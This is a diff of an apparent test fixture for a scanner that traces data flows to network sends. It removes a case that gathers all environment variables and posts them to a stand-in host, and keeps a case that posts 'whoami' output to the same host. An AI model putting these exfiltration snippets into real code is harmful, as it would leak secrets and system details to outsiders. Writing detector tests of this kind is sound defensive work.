@@ -80,18 +80,6 @@ requests.post('http://a.invalid', json=info)`,
     ],
   ],
   [
-    'global var',
-    `import os, requests
-D = None
-def collect():
-    global D
-    D = dict(os.environ)
-def send():
-    requests.post('http://a.invalid', json=D)
-collect(); send()`,
-    ['own.py:7 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
-  ],
-  [
     'process output',
     `import subprocess, requests
 requests.post('http://a.invalid', data=subprocess.check_output(['whoami']))`,
